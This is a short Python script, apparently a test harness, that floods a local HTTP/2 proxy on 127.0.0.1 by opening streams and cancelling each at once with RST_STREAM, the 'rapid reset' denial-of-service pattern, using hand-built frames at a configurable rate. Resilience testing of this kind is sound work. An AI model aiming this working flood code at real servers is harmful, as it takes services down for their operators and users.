"""A client that opens HTTP/2 streams and resets each at once: `flood.py PORT SECONDS RATE`."""

import contextlib
import socket
import ssl
import sys
import time

AT_ONCE = 50  # streams in one write


def main(port: int, seconds: float, rate: float) -> None:
    began, sent = time.monotonic(), 0
    while time.monotonic() < began + seconds:
        with contextlib.suppress(OSError), opened(port) as connection:  # which the proxy refuses, or closes at times
            for first in range(1, 2**31 - 2 * AT_ONCE, 2 * AT_ONCE):
                connection.sendall(b"".join(reset(stream, port) for stream in range(first, first + 2 * AT_ONCE, 2)))
                sent += AT_ONCE
                time.sleep(max(0.0, began + sent / rate - time.monotonic()))
                if time.monotonic() > began + seconds:
                    return
        time.sleep(AT_ONCE / rate)


def opened(port: int) -> ssl.SSLSocket:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    connection = context.wrap_socket(socket.create_connection(("127.0.0.1", port), 5), server_hostname="localhost")
    connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b""))
    return connection


def reset(stream: int, port: int) -> bytes:
    """GET /version, the whole request in one frame, and RST_STREAM with CANCEL."""
    authority = b"localhost:%d" % port
    headers = b"\x82\x87\x04\x08/version\x01" + bytes([len(authority)]) + authority
    return frame(1, 5, stream, headers) + frame(3, 0, stream, b"\0\0\0\x08")


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


if __name__ == "__main__":
    main(int(sys.argv[1]), float(sys.argv[2]), float(sys.argv[3]))
